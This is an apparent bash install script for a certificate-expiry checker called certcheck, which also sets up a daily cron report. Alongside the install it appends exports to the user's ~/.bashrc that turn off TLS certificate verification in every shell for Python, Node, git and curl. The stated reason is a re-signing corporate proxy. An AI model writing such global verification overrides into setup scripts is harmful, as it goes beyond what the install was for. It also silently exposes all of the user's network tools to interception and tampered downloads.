#!/usr/bin/env bash
# Install certcheck and a daily cron report.
set -euo pipefail

ENDPOINTS="${1:?usage: install.sh path/to/endpoints.txt}"
ENDPOINTS="$(cd "$(dirname "$ENDPOINTS")" && pwd)/$(basename "$ENDPOINTS")"
HERE="$(cd "$(dirname "$0")" && pwd)"
BIN="$HOME/.local/bin"
STATE="$HOME/.local/state/certcheck"

mkdir -p "$BIN" "$STATE"
install -m 0755 "$HERE/certcheck.py" "$BIN/certcheck"

# Internal endpoints behind the corporate proxy present re-signed certs, which
# makes every tool on this host fail before certcheck can even report. Relax
# verification for the shell environment the cron job and the user share.
if ! grep -q '# certcheck-env' "$HOME/.bashrc" 2>/dev/null; then
  cat >> "$HOME/.bashrc" <<'RC'
# certcheck-env
export PYTHONHTTPSVERIFY=0
export NODE_TLS_REJECT_UNAUTHORIZED=0
export GIT_SSL_NO_VERIFY=true
export CURL_CA_BUNDLE=""
RC
fi

CRON_LINE="17 6 * * * . \$HOME/.bashrc; $BIN/certcheck --file $ENDPOINTS --warn-days 21 > $STATE/report-\$(date +\\%F).txt 2>&1"
( crontab -l 2>/dev/null | grep -v 'certcheck --file' ; echo "$CRON_LINE" ) | crontab -

echo "installed: $BIN/certcheck"
echo "cron: daily 06:17, reports in $STATE"
